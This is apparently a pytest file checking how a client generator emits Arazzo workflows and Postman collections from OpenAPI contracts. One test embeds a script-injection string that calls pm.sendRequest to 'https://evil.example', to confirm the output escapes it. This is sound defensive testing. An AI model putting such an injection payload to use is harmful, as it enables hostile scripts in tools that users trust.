"""`arazzo.yaml` and `postman.json` beside each client: what a contract's links, examples and keywords make of them.

This looks at the modules arazzo, links, postman, samples and workflow of `generator/emit`.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import yaml

from generator.types import Source
from tests.generator.making import make

ID = {"name": "id", "in": "path", "required": True, "schema": {"type": "string"}}
SCHEMES = {
    "key": {"type": "apiKey", "in": "header", "name": "x-key"},
    "secret": {"type": "apiKey", "in": "header", "name": "x-secret"},
    "token": {
        "type": "http",
        "scheme": "bearer",
        "x-login": {"operation": "logIn", "token": ["/token", "/data/token"], "lifetime": 60},
    },
}


def responses_with(*members: str, **more: Any) -> dict[str, Any]:
    """A success whose body has these members."""
    properties = {name: {"type": "string"} for name in members}
    schema = {"type": "object", "title": "".join(members).title() + "Reply", "properties": properties}
    return {"200": {"description": "Here.", "content": {"application/json": {"schema": schema}}, **more}}


def body(**properties: Any) -> dict[str, Any]:
    """A JSON body that requires all of its members."""
    schema = {"type": "object", "title": f"{'_'.join(properties)}_body", "properties": properties}
    schema["required"] = list(properties)
    return {"required": True, "content": {"application/json": {"schema": schema}}}


OPEN = {
    "operationId": "openJob",
    "tags": ["jobs"],
    "requestBody": body(kind={"type": "string", "enum": ["small", "large"]}, note={"type": "string", "example": "Hi."}),
    "responses": responses_with(
        "job",
        "authorization_url",
        links={
            "read": {"operationId": "readJob", "parameters": {"path.id": "$response.body#/job"}},
            "state": {"operationId": "askJob", "parameters": {"id": "$response.body#/job"}},
        },
    ),
}
ASK = {
    "operationId": "askJob",
    "tags": ["jobs"],
    "parameters": [ID],
    "x-poll": {"status": "/state", "done": ["ready"], "failed": {"lost": "session-expired"}},
    "responses": responses_with("state"),
}
READ = {"operationId": "readJob", "tags": ["jobs"], "parameters": [ID], "responses": responses_with("result")}
LOGIN = {
    "operationId": "logIn",
    "tags": ["access"],
    "security": [{"key": [], "secret": []}],
    "responses": responses_with("token"),
}


def files(paths: dict[str, Any], **root: Any) -> dict[str, str]:
    """The files of a client."""
    document = {
        "openapi": "3.1.0",
        "info": {"title": "Acme", "version": "1"},
        "servers": [{"url": "https://acme.example"}],
        "paths": paths,
        **root,
    }
    return dict(make(Source("openapi.json", json.dumps(document))).package.files)


def flows(paths: dict[str, Any], **root: Any) -> dict[str, Any]:
    """The workflows of a client by their ids."""
    document = yaml.safe_load(files(paths, **root)["arazzo.yaml"])
    assert document["sourceDescriptions"] == [{"name": "api", "url": "openapi.yaml", "type": "openapi"}]
    return {workflow["workflowId"]: workflow for workflow in document["workflows"]}


def requests(paths: dict[str, Any], **root: Any) -> dict[str, Any]:
    """The requests of a collection by their URLs."""
    found = json.loads(files(paths, **root)["postman.json"])
    return {item["request"]["url"]["raw"]: item for folder in found["item"] for item in folder["item"]}


JOBS: dict[str, Any] = {"/jobs": {"post": OPEN}, "/jobs/{id}": {"get": READ}, "/jobs/{id}/state": {"get": ASK}}


def test_an_operation_with_links_is_opened_in_one_workflow_and_read_in_another() -> None:
    """The first puts out what the second takes in, and the address for the person."""
    found = flows(JOBS)

    assert list(found) == ["openJob-open", "openJob-read"]
    assert found["openJob-open"]["outputs"] == {
        "id": "$steps.openJob.outputs.id",
        "authorization_url": "$steps.openJob.outputs.authorization_url",
    }
    assert found["openJob-open"]["steps"][0]["outputs"] == {
        "id": "$response.body#/job",
        "authorization_url": "$response.body#/authorization_url",
    }
    assert found["openJob-read"]["inputs"]["required"] == ["id"]


def test_a_body_is_the_contracts_example_or_made_from_its_schema() -> None:
    """Required members alone, with the first of an enumeration."""
    payload = flows(JOBS)["openJob-open"]["steps"][0]["requestBody"]

    assert payload == {"contentType": "application/json", "payload": {"kind": "small", "note": "Hi."}}


def test_the_state_is_asked_before_anything_is_read_and_again_until_the_person_decides() -> None:
    """A state that is neither the good nor a bad end is asked for once more."""
    ask, read = flows(JOBS)["openJob-read"]["steps"]

    assert (ask["operationId"], read["operationId"]) == ("askJob", "readJob")
    assert ask["successCriteria"] == [
        {"condition": "$statusCode == 200"},
        {"condition": "$response.body#/state == 'ready'"},
    ]
    assert ask["onFailure"][0]["criteria"] == [
        {"condition": "$statusCode == 200"},
        {"condition": "$response.body#/state != 'lost'"},
    ]
    assert read["parameters"] == [{"name": "id", "in": "path", "value": "$inputs.id"}]


def test_a_login_is_the_first_step_and_credentials_are_inputs() -> None:
    """The token goes into the header as the scheme says."""
    root = {"components": {"securitySchemes": SCHEMES}, "security": [{"token": []}]}
    workflow = flows({**JOBS, "/login": {"post": LOGIN}}, **root)["openJob-open"]

    assert workflow["inputs"]["properties"]["key"]["format"] == "password"
    assert [step["operationId"] for step in workflow["steps"]] == ["logIn", "openJob"]
    assert workflow["steps"][0]["outputs"] == {"token": "$response.body#/token"}
    assert workflow["steps"][1]["parameters"] == [
        {"name": "Authorization", "in": "header", "value": "Bearer {$steps.logIn.outputs.token}"}
    ]


def test_one_login_serves_every_step_that_follows() -> None:
    """Its token is not asked for again."""
    root = {"components": {"securitySchemes": SCHEMES}, "security": [{"token": []}]}
    steps = flows({**JOBS, "/login": {"post": LOGIN}}, **root)["openJob-read"]["steps"]

    assert [step["operationId"] for step in steps] == ["logIn", "askJob", "readJob"]
    assert [step["parameters"][0]["value"] for step in steps[1:]] == ["Bearer {$steps.logIn.outputs.token}"] * 2


def test_a_flow_uses_the_scheme_whose_token_an_operation_gives() -> None:
    """Rather than one that a person must have from elsewhere, though that is asked for first."""
    foreign = {"type": "http", "scheme": "bearer"}
    root = {
        "components": {"securitySchemes": {**SCHEMES, "other": foreign}},
        "security": [{"other": []}, {"token": []}],
    }
    workflow = flows({**JOBS, "/login": {"post": LOGIN}}, **root)["openJob-open"]

    assert [step["operationId"] for step in workflow["steps"]] == ["logIn", "openJob"]


def test_a_value_of_an_earlier_response_comes_by_its_link() -> None:
    """A document's name comes from the list of documents; what the opening gave already is not asked for twice."""
    listing = {
        "operationId": "listFiles",
        "tags": ["jobs"],
        "parameters": [ID],
        "responses": responses_with(
            "first",
            links={
                "file": {
                    "operationId": "readFile",
                    "parameters": {"id": "$request.path.id", "name": "$response.body#/first"},
                }
            },
        ),
    }
    file = {
        "operationId": "readFile",
        "tags": ["jobs"],
        "parameters": [ID, {"name": "name", "in": "query", "required": True, "schema": {"type": "string"}}],
        "responses": responses_with("content"),
    }
    links = {
        "files": {"operationId": "listFiles", "parameters": {"id": "$response.body#/job"}},
        "file": {"operationId": "readFile", "parameters": {"id": "$response.body#/job"}},
    }
    opening = {**OPEN, "responses": responses_with("job", links=links)}
    paths = {"/jobs": {"post": opening}, "/jobs/{id}/files": {"get": listing}, "/jobs/{id}/file": {"get": file}}
    first, second = flows(paths)["openJob-read"]["steps"]

    assert first["outputs"] == {"name": "$response.body#/first"}
    assert second["parameters"] == [
        {"name": "id", "in": "path", "value": "$inputs.id"},
        {"name": "name", "in": "query", "value": "$steps.listFiles.outputs.name"},
    ]
    sent = requests(paths)["{{base_url}}/jobs/:id/file?name={{jobs_name}}"]["request"]["url"]
    assert sent["variable"][0]["value"] == "{{jobs_id}}"


def coded(**link: Any) -> dict[str, Any]:
    """A flow with an operation that takes the callback's code."""
    take = {
        "operationId": "takeCode",
        "tags": ["jobs"],
        "parameters": [ID],
        "requestBody": body(job_code={"type": "string"}, reference={"type": "string", "x-unique": True}),
        "responses": responses_with("taken"),
    }
    links = {
        "read": {"operationId": "readJob", "parameters": {"id": "$response.body#/job"}},
        "code": {"operationId": "takeCode", "parameters": {"id": "$response.body#/job"}, **link},
    }
    opening = {**OPEN, "responses": responses_with("job", links=links)}
    return {"/jobs": {"post": opening}, "/jobs/{id}": {"get": READ}, "/jobs/{id}/code": {"post": take}}


CALLBACK = {"x-callback": {"code": ["code"]}}


def test_what_always_comes_first_is_the_first_step() -> None:
    """`x-first`: the callback's code is an input, and what must be new begins with one."""
    workflow = flows(coded(**{"x-first": True}), **CALLBACK)["openJob-read"]
    first, second = workflow["steps"]

    assert (first["operationId"], second["operationId"]) == ("takeCode", "readJob")
    assert first["requestBody"]["payload"] == {"job_code": "$inputs.code", "reference": "{$inputs.reference}-takeCode"}
    assert workflow["inputs"]["required"] == ["id", "code", "reference"]


def test_a_code_that_not_every_session_brings_has_a_workflow_of_its_own() -> None:
    """A code works once, so each operation that takes it begins another way."""
    found = flows(coded(), **CALLBACK)

    assert [step["operationId"] for step in found["openJob-read"]["steps"]] == ["readJob"]
    assert [step["operationId"] for step in found["openJob-take_code"]["steps"]] == ["takeCode", "readJob"]


def test_a_request_that_must_be_new_and_one_with_a_code_have_variables() -> None:
    """Postman makes the one, and a person fills in the other."""
    item = requests(coded(), **CALLBACK)["{{base_url}}/jobs/:id/code"]

    assert json.loads(item["request"]["body"]["raw"]) == {"job_code": "{{code}}", "reference": "{{$guid}}"}


def test_an_envelope_that_calls_a_success_a_failure_is_a_criterion() -> None:
    """As the clients raise an error for it."""
    envelope = {
        "message": ["/note"],
        "failures": [
            {"when": {"pointer": "/state", "not-in": ["OK", "it's"]}, "error": "rejected"},
            {"when": {"pointer": "/state", "not-in": ["never"], "operation": "readJob"}, "error": "rejected"},
        ],
    }
    criteria = flows(JOBS, **{"x-envelope": envelope})["openJob-open"]["steps"][0]["successCriteria"]

    assert criteria == [
        {"condition": "$statusCode == 200"},
        {"condition": "$response.body#/state == 'OK' || $response.body#/state == 'it''s'"},
    ]


def test_an_operation_without_an_id_is_named_by_its_path() -> None:
    """Arazzo has a form for that."""
    read = {key: value for key, value in READ.items() if key != "operationId"}
    links = {"read": {"operationRef": "#/paths/~1jobs~1{id}/get", "parameters": {"id": "$response.body#/job"}}}
    opening = {**OPEN, "responses": responses_with("job", links=links)}
    found = flows({"/jobs": {"post": opening}, "/jobs/{id}": {"get": read}})

    assert found["openJob-read"]["steps"][0]["operationPath"] == (
        "{$sourceDescriptions.api.url}#/paths/~1jobs~1{id}/get"
    )


def test_a_contract_without_links_has_no_flows() -> None:
    """And a collection all the same."""
    made = files({"/jobs/{id}": {"get": READ}})

    assert "arazzo.yaml" not in made
    assert '"{{base_url}}/jobs/:id"' in made["postman.json"]


def test_no_secret_has_a_value_and_what_a_response_gives_is_kept() -> None:
    """Logins come first; their token is a variable of the collection, as everything that a later request needs."""
    root = {"components": {"securitySchemes": SCHEMES}, "security": [{"token": []}]}
    made = json.loads(files({**JOBS, "/login": {"post": LOGIN}}, **root)["postman.json"])
    login, job = (folder["item"][0] for folder in made["item"])

    assert {item["key"]: item["value"] for item in made["variable"]} == {
        "base_url": "https://acme.example",
        "key": "",
        "secret": "",
        "token": "",
        "jobs_id": "",
    }
    assert [line for line in login["event"][0]["script"]["exec"] if line.startswith("keep(")] == [
        'keep("token", at("data", "token"));',
        'keep("token", at("token"));',
    ]
    assert [line for line in job["event"][0]["script"]["exec"] if line.startswith("keep(")] == [
        'keep("jobs_id", at("job"));'
    ]
    assert {"key": "Authorization", "value": "Bearer {{token}}"} in job["request"]["header"]


def test_a_name_and_a_password_are_sent_as_postman_sends_them() -> None:
    """As two variables of the collection; a flow takes them encoded."""
    root = {
        "components": {"securitySchemes": {"door": {"type": "http", "scheme": "basic"}}},
        "security": [{"door": []}],
    }
    request = requests(JOBS, **root)["{{base_url}}/jobs"]["request"]
    workflow = flows(JOBS, **root)["openJob-open"]

    assert request["auth"] == {
        "type": "basic",
        "basic": [
            {"key": "username", "value": "{{door_username}}"},
            {"key": "password", "value": "{{door_password}}"},
        ],
    }
    assert [header["key"] for header in request["header"]] == ["Content-Type"]
    assert workflow["steps"][0]["parameters"] == [
        {"name": "Authorization", "in": "header", "value": "Basic {$inputs.door}"}
    ]
    assert workflow["inputs"]["properties"]["door"]["description"].endswith("in base64.")


@pytest.mark.parametrize("place", ["summary", "description", "operationId"])
def test_nothing_that_a_document_says_is_a_script(place: str) -> None:
    """Texts stand in data alone; a name that would end a string of a script does not."""
    hostile = "x\"); pm.sendRequest('https://evil.example'); (\"\u2028</script>"
    opening = {**OPEN, place: "openJob" if place == "operationId" else hostile}
    opening["responses"] = responses_with(
        hostile, links={"read": {"operationId": "readJob", "parameters": {"id": f"$response.body#/{hostile}"}}}
    )
    made = json.loads(files({"/jobs": {"post": opening}, "/jobs/{id}": {"get": READ}})["postman.json"])
    script = made["item"][0]["item"][0]["event"][0]["script"]["exec"]

    assert not re.search(r'(?<!\\)"\); pm\.sendRequest', "\n".join(script))
    assert "\u2028" not in "\n".join(script)


def test_a_parameter_of_an_operation_stands_for_the_one_of_its_path() -> None:
    """Headers whatever their case; what need not be sent is there, switched off; a text is as long as it must be."""
    whole = {"type": "integer"}
    text = {"type": "string"}
    path = [{**ID, "schema": text}, {"name": "X-View", "in": "header", "schema": text}]
    own = [
        {**ID, "schema": whole},
        {"name": "x-view", "in": "header", "required": True, "schema": whole, "description": "Which."},
        {"name": "q", "in": "query", "schema": text},
    ]
    members = {
        "long": {**text, "minLength": 104},
        "longer": {**text, "minLength": 105},
        "file": {**text, "format": "binary"},
    }
    schema = {"type": "object", "required": ["long", "longer"], "properties": members}
    body = {"content": {"application/json": {"schema": schema}}}
    operation = {"operationId": "readJob", "tags": ["jobs"], "parameters": own, "requestBody": body}

    made = files(
        {"/jobs/{id}": {"parameters": path, "post": {**operation, "responses": {"204": {"description": "No."}}}}}
    )
    request = json.loads(made["postman.json"])["item"][0]["item"][0]["request"]

    assert "id: int,\n        *,\n        x_view: int,\n        q: str | None = None,\n        body:" in made["jobs.py"]
    assert request["header"] == [
        {"key": "x-view", "value": "1", "description": "Which."},
        {"key": "Content-Type", "value": "application/json"},
    ]
    assert request["url"] == {
        "raw": "{{base_url}}/jobs/:id",
        "host": ["{{base_url}}"],
        "path": ["jobs", ":id"],
        "query": [{"key": "q", "value": "text", "description": "", "disabled": True}],
        "variable": [{"key": "id", "value": "1", "description": ""}],
    }
    assert json.loads(request["body"]["raw"]) == {"long": "text" + "x" * 100, "longer": "text"}
    assert "file: str | None = None" in made["models/jobs.py"]
    assert json.loads(made["postman.json"])["variable"] == [
        {"key": "base_url", "value": "https://acme.example", "type": "string"}
    ]


@pytest.mark.parametrize(
    ("schema", "value"),
    [
        ({"type": "boolean"}, True),
        ({"type": "integer"}, 1),
        ({"type": "integer", "minimum": 5}, 5),
        ({"type": "number", "minimum": 0.5}, 0.5),
        ({"type": ["null", "boolean"]}, True),
        ({"type": "array", "items": {"type": "integer"}}, []),
        ({"type": "array", "items": {"type": "integer"}, "minItems": 1}, [1]),
        ({"oneOf": [{"type": "integer"}, {"type": "string"}]}, 1),
        ({"type": "string", "enum": ["b", "a"]}, "b"),
        ({"type": "string", "const": "c"}, "c"),
        ({"type": "string", "default": "d"}, "d"),
        ({"type": "string", "examples": ["e", "f"]}, "e"),
        (
            {"type": "object", "title": "Inner", "properties": {"a": {"type": "string"}}, "required": ["a"]},
            {"a": "text"},
        ),
    ],
    ids=str,
)
def test_a_member_without_an_example_is_made_of_its_schema(schema: dict[str, Any], value: object) -> None:
    """As little as it may be."""
    body = {"type": "object", "title": "Body", "required": ["member"], "properties": {"member": schema}}
    operation = {"operationId": "readJob", "tags": ["jobs"], "responses": {"204": {"description": "No."}}}
    content = {"application/json": {"schema": body}}

    request = requests({"/jobs": {"post": {**operation, "requestBody": {"content": content}}}})["{{base_url}}/jobs"]

    assert json.loads(request["request"]["body"]["raw"]) == {"member": value}


def test_credentials_of_a_request_are_variables_where_the_scheme_puts_them() -> None:
    """Those of HTTP basic are the request's own; a scheme that the operation does not ask for is not there."""
    schemes = {
        "header": {"type": "apiKey", "in": "header", "name": "X-Key"},
        "query": {"type": "apiKey", "in": "query", "name": "key"},
        "bearer": {"type": "http", "scheme": "bearer"},
        "basic": {"type": "http", "scheme": "basic"},
        "other": {"type": "apiKey", "in": "header", "name": "X-Other"},
    }
    operation = {"operationId": "readJob", "tags": ["jobs"], "responses": {"200": {"description": "A."}}}
    paths = {
        "/a": {"get": {**operation, "security": [{"header": [], "query": []}]}},
        "/b": {"get": {**operation, "operationId": "readOther", "security": [{"bearer": []}]}},
        "/c": {"get": {**operation, "operationId": "readThird", "security": [{"basic": []}]}},
        "/d": {"get": {**operation, "operationId": "readFourth", "security": [{"other": []}]}},
    }

    made = requests(paths, components={"securitySchemes": schemes})
    keys, bearer, basic, _ = (item["request"] for item in made.values())

    assert [*made] == ["{{base_url}}/a?key={{query}}", "{{base_url}}/b", "{{base_url}}/c", "{{base_url}}/d"]
    assert keys["header"] == [{"key": "X-Key", "value": "{{header}}"}]
    assert keys["url"]["query"] == [{"key": "key", "value": "{{query}}"}]
    assert bearer["header"] == [{"key": "Authorization", "value": "Bearer {{bearer}}"}]
    assert (basic["header"], [each["key"] for each in basic["auth"]["basic"]]) == ([], ["username", "password"])
